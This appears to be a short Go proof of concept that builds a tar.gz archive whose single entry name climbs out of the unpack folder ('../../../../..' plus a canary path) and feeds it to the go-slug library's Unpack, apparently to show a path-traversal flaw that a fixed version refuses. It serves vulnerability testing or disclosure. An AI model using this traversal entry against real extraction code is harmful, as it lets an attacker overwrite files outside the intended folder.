// An archive whose one entry leads out of the folder it is unpacked in.
package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"os"

	"github.com/hashicorp/go-slug"
)

func main() {
	var archive bytes.Buffer
	packed := gzip.NewWriter(&archive)
	entries := tar.NewWriter(packed)
	name := "../../../../.." + os.Getenv("PROOF_CANARY_WRITE")
	_ = entries.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: 1, Typeflag: tar.TypeReg})
	_, _ = entries.Write([]byte("x"))
	_ = entries.Close()
	_ = packed.Close()
	if os.Mkdir("out", 0o755) != nil {
		os.Exit(3)
	}
	// The fixed version refuses; that is no failure of the program.
	_ = slug.Unpack(&archive, "out")
}
